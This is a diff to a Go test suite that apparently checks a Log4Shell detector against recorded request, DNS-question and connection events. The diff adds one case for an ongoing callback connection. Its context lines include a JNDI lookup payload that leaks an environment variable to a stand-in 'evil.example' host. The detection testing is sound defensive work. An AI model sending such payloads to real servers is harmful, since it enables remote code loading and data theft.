@@ -89,6 +89,7 @@ func TestLog4Shell(t *testing.T) {
 		{"callback by name", []events.Record{byName, question(time.Second, server, "x7.evil.example")}, 2, true},
 		{"callback that carries a value", []events.Record{request(0, lookups("X: ${jndi:dns://${env:USER}.evil.example/a}")), question(time.Second, server, "root.evil.example")}, 2, true},
 		{"callback by the resolver", []events.Record{byName, question(time.Second, "10.0.0.2", "X7.evil.example")}, 2, true},
+		{"callback that goes on", []events.Record{attack, &events.Conn{Head: head(time.Second, server, "192.0.2.1", 1389), Interim: true}}, 2, true},
 		// The innocent twins, of the request or of the callback.
 		{"a template", []events.Record{request(0, lookups("X: ${user.name} ${env:HOME}"))}, 0, false},
 		{"contact before the attempt", []events.Record{call(-time.Minute, server, "192.0.2.1", 1389), attack}, 1, false},
